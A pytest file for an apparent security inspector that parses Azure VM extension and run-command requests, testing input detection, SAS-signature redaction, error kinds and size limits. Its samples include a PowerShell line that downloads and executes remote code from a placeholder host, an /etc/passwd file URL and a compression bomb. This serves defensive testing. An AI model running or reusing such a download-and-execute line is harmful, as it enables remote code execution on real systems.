"""understand(): scripts, files, URLs, automatic detection and whole-input errors."""

from __future__ import annotations

import pytest

from inspector.config import Settings
from inspector.extensions import (
    InputError,
    InputKind,
    InspectionInput,
    RequestContext,
    RequestLimits,
    ScriptRole,
    UrlRole,
    understand,
)
from inspector.model import ArtifactType

from tests.extensions.samples import SAS_SIG, as_json, cse_linux_miner


def test_raw_script_is_submitted_with_the_language_given_or_from_its_name():
    p = understand(InspectionInput(kind=InputKind.SCRIPT, content=b"IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
                                   language=ArtifactType.POWERSHELL))
    assert p.kind == "script"
    [script] = p.scripts
    assert (script.origin, script.role, script.language) == ("input", ScriptRole.SUBMITTED, ArtifactType.POWERSHELL)
    p = understand(InspectionInput(kind=InputKind.SCRIPT, content=b"echo hi", filename="setup.sh"))
    assert (p.scripts[0].origin, p.scripts[0].language, p.scripts[0].filename) == ("setup.sh", ArtifactType.SHELL, "setup.sh")


def test_file_input_is_submitted_whole_even_when_binary():
    data = bytes(range(256)) * 4
    p = understand(InspectionInput(kind=InputKind.FILE, content=data, filename="x.bin"))
    assert p.kind == "file" and p.scripts[0].content == data
    assert p.redacted_request == {"filename": "x.bin", "size": 1024}


def test_url_input_is_one_entry_point_with_a_redacted_form():
    url = f"https://acct.blob.core.windows.net/c/run.ps1?sv=2022-11-02&sig={SAS_SIG}"
    p = understand(InspectionInput(kind=InputKind.URL, url=url))
    assert p.kind == "url"
    [planned] = p.urls
    assert (planned.origin, planned.role, planned.url) == ("url", UrlRole.ENTRY_POINT, url)
    assert SAS_SIG not in planned.redacted and p.entry_point == "url"
    assert SAS_SIG not in p.model_dump_json(exclude={"urls": {"__all__": {"url"}}})


@pytest.mark.parametrize("url", ["", "file:///etc/passwd", "not a url", "gopher://x/"])
def test_bad_url_inputs_are_input_errors(url):
    with pytest.raises(InputError) as err:
        understand(InspectionInput(kind=InputKind.URL, url=url))
    assert err.value.kind == "invalid_url"


def test_auto_detects_from_content_and_keeps_the_caller_context():
    p = understand(InspectionInput(kind=InputKind.AUTO, content=as_json(cse_linux_miner()).encode(),
                                   context=RequestContext(vm_size="Standard_B2s")))
    assert p.kind == "custom_script_linux" and p.context.vm_size == "Standard_B2s"


def test_auto_with_a_parsed_body_of_unknown_shape_scans_it_as_json_text():
    p = understand(InspectionInput(kind=InputKind.AUTO, body={"hello": "world"}))
    assert p.kind == "file" and p.scripts[0].language is ArtifactType.JSON


def test_json_bodies_may_arrive_as_text():
    p = understand(InspectionInput(kind=InputKind.EXTENSION, body=as_json(cse_linux_miner())))
    assert p.kind == "custom_script_linux"


@pytest.mark.parametrize(
    ("inp", "kind"),
    [
        (InspectionInput(kind=InputKind.EXTENSION, body=["not", "an", "object"]), "wrong_type"),
        (InspectionInput(kind=InputKind.RUN_COMMAND, body=17), "wrong_type"),
        (InspectionInput(kind=InputKind.EXTENSION, body='{"publisher": '), "invalid_json"),
        (InspectionInput(kind=InputKind.SCRIPT), "empty_input"),
        (InspectionInput(kind=InputKind.AUTO), "empty_input"),
    ],
)
def test_inputs_that_cannot_be_inspected_are_input_errors(inp, kind):
    with pytest.raises(InputError) as err:
        understand(inp)
    assert err.value.kind == kind


@pytest.mark.parametrize(("kind", "body"), [
    (InputKind.EXTENSION, {}),
    (InputKind.EXTENSION, {"foo": 1}),
    (InputKind.EXTENSION, {"properties": {}}),
    (InputKind.RUN_COMMAND, {"foo": 1}),
    (InputKind.ACTIVITY_LOG, {}),
    (InputKind.ACTIVITY_LOG, []),
    (InputKind.ACTIVITY_LOG, {"records": [{"foo": 1}]}),
])
def test_a_request_of_the_wrong_shape_is_not_understood_rather_than_planned_empty(kind, body):
    with pytest.raises(InputError) as err:
        understand(InspectionInput(kind=kind, body=body))
    assert err.value.kind == "not_understood" and err.value.detail.startswith("nothing in the request could be understood")


@pytest.mark.parametrize(("kind", "body"), [
    (InputKind.EXTENSION, {"properties": {"publisher": "Contoso.Agents", "type": "Monitor"}}),
    (InputKind.EXTENSION, {"properties": {"settings": {"commandToExecute": "whoami"}}}),
    (InputKind.RUN_COMMAND, {"commandId": "IPConfig"}),
    (InputKind.RUN_COMMAND, {"properties": {"source": {}}}),
    (InputKind.ACTIVITY_LOG, {"operationName": {"value": "Microsoft.Compute/virtualMachines/runCommand/action"}}),
])
def test_a_request_that_names_what_it_is_is_understood_even_with_nothing_to_scan(kind, body):
    assert understand(InspectionInput(kind=kind, body=body)).scripts is not None


def test_protected_settings_kept_in_key_vault_are_a_problem_that_hides_the_payload():
    body = {"properties": {
        "publisher": "Microsoft.Compute", "type": "CustomScriptExtension", "typeHandlerVersion": "1.10",
        "protectedSettingsFromKeyVault": {"sourceVault": {"id": "/subscriptions/s/resourceGroups/r/providers/"
                                                          "Microsoft.KeyVault/vaults/v"},
                                          "secretUrl": "https://v.vault.azure.net/secrets/cmd/1"}}}
    plan = understand(InspectionInput(kind=InputKind.EXTENSION, body=body))
    [problem] = plan.problems
    assert problem.kind == "secret_reference_not_read" and problem.hides_payload
    assert problem.origin == "protectedSettingsFromKeyVault" and "Key Vault" in problem.detail


def test_deep_parsed_bodies_from_the_api_are_refused_without_recursion():
    body: dict = {}
    node = body
    for _ in range(10_000):
        node["a"] = {}
        node = node["a"]
    with pytest.raises(InputError) as err:
        understand(InspectionInput(kind=InputKind.EXTENSION, body=body))
    assert err.value.kind == "too_deep"


def test_inline_script_size_limit_truncates_and_says_so():
    import base64
    import gzip

    bomb = base64.b64encode(gzip.compress(b"A" * (8 * 1024 * 1024))).decode()
    body = {"publisher": "Microsoft.Azure.Extensions", "type": "CustomScript", "protectedSettings": {"script": bomb}}
    p = understand(InspectionInput(kind=InputKind.EXTENSION, body=body), RequestLimits(max_inline_script_bytes=64 * 1024))
    assert len(p.scripts[0].content) == 64 * 1024
    assert [q.kind for q in p.problems] == ["too_large"]


def test_request_limit_defaults_match_the_settings_defaults():
    assert RequestLimits() == RequestLimits.from_settings(Settings())


def test_request_limits_come_from_the_environment(monkeypatch):
    monkeypatch.setenv("INSPECTOR_MAX_JSON_DEPTH", "12")
    monkeypatch.setenv("INSPECTOR_MAX_PLAN_ITEMS", "3")
    limits = RequestLimits.from_settings(Settings())
    assert (limits.max_json_depth, limits.max_plan_items) == (12, 3)


def test_the_depth_setting_is_capped_so_plans_always_serialise():
    from pydantic import ValidationError

    with pytest.raises(ValidationError):
        Settings(max_json_depth=201)
    body: dict = {"publisher": "X", "type": "Y", "settings": {}}
    node = body["settings"]
    for _ in range(197):
        node["a"] = {}
        node = node["a"]
    p = understand(InspectionInput(kind=InputKind.EXTENSION, body=body), RequestLimits(max_json_depth=200))
    assert p.model_dump_json()
